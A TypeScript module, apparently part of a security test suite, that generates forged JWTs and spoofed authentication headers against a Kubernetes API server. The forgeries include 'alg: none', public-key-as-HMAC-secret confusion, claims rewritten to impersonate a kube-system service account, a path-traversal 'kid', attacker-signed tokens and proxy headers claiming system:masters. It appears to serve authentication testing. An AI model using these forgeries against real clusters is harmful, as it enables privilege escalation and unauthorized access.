/** Ways to come by a token that was never issued, or to keep using one that is over. */
import { createHmac, createPublicKey, generateKeyPairSync, type KeyObject, sign } from 'node:crypto';
import type { Target } from '../target.ts';

export interface Forgery {
  readonly name: string;
  readonly headers: Readonly<Record<string, string>>;
}

const encode = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64url');
const decode = (part: string): Record<string, unknown> =>
  JSON.parse(Buffer.from(part, 'base64url').toString('utf8')) as Record<string, unknown>;
const bearer = (token: string): Forgery['headers'] => ({ authorization: `Bearer ${token}` });

function signed(key: KeyObject, head: object, claims: object): string {
  const text = `${encode(head)}.${encode(claims)}`;
  const signature = sign('sha256', Buffer.from(text), { key, dsaEncoding: 'ieee-p1363' });
  return `${text}.${signature.toString('base64url')}`;
}

/** All of them start from a good token of a service account with rights. */
export async function forgeries(target: Target, good: string): Promise<readonly Forgery[]> {
  const [head = '', payload = '', signature = ''] = good.split('.');
  const claims = decode(payload);
  const header = decode(head);
  const stranger = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const { object: keySet } = await target.ask({ as: 'administrator', path: '/openid/v1/jwks' });
  const [jwk] = keySet['keys'] as Record<string, string>[];
  const published = createPublicKey({ key: jwk as never, format: 'jwk' });
  const secrets = [
    published.export({ type: 'spki', format: 'pem' }),
    published.export({ type: 'spki', format: 'der' }),
    JSON.stringify(jwk),
  ];
  const bodies = `${encode({ ...header, alg: 'HS256' })}.${payload}`;
  const hmac = (key: string | Buffer): string =>
    `${bodies}.${createHmac('sha256', key).update(bodies).digest('base64url')}`;
  const raised = { ...claims, sub: 'system:serviceaccount:kube-system:generic-garbage-collector' };
  const later = { ...claims, exp: 4_102_444_800 };
  const expired = await target.tokenOf('attack-tokens', 'gone');
  await target.ask({
    as: 'administrator',
    method: 'DELETE',
    path: '/api/v1/namespaces/attack-tokens/serviceaccounts/gone',
  });
  // The same name again is another account.
  await target.make('/api/v1/namespaces/attack-tokens/serviceaccounts', { metadata: { name: 'gone' } });
  const elsewhere = await target.tokenOf('attack-tokens', 'elsewhere', { audiences: ['https://elsewhere.example'] });
  const cases: [string, Forgery['headers']][] = [
    ['no algorithm, no signature', bearer(`${encode({ ...header, alg: 'none' })}.${payload}.`)],
    ['algorithm None, old signature', bearer(`${encode({ ...header, alg: 'None' })}.${payload}.${signature}`)],
    ['the published key as an HMAC secret, PEM', bearer(hmac(secrets[0] as string))],
    ['the published key as an HMAC secret, DER', bearer(hmac(secrets[1] as Buffer))],
    ['the published key as an HMAC secret, JWK', bearer(hmac(secrets[2] as string))],
    ['an empty HMAC secret', bearer(hmac(''))],
    ['claims of another account under the old signature', bearer(`${head}.${encode(raised)}.${signature}`)],
    ['a later expiry under the old signature', bearer(`${head}.${encode(later)}.${signature}`)],
    ['a key of the attacker', bearer(signed(stranger.privateKey, header, claims))],
    [
      'a key of the attacker, sent along',
      bearer(signed(stranger.privateKey, { ...header, jwk: stranger.publicKey.export({ format: 'jwk' }) }, claims)),
    ],
    [
      'a key identifier that is a path',
      bearer(signed(stranger.privateKey, { ...header, kid: '../../../../dev/null' }, claims)),
    ],
    ['an empty signature', bearer(`${head}.${payload}.`)],
    ['a signature of zeros', bearer(`${head}.${payload}.${Buffer.alloc(64).toString('base64url')}`)],
    ['a cut signature', bearer(good.slice(0, -10))],
    ['a fourth part', bearer(`${good}.${signature}`)],
    ['the account was deleted and made again', bearer(expired)],
    ['meant for somebody else', bearer(elsewhere)],
    ['as a password', { authorization: `Basic ${Buffer.from(`admin:${good}`).toString('base64')}` }],
    ['as a name in a proxy header', { 'x-remote-user': 'system:admin', 'x-remote-group': 'system:masters' }],
    ['a name in a forwarded header', { 'x-forwarded-user': 'system:admin', 'x-forwarded-client-cert': 'admin' }],
  ];
  return cases.map(([name, headers]) => ({ name, headers }));
}
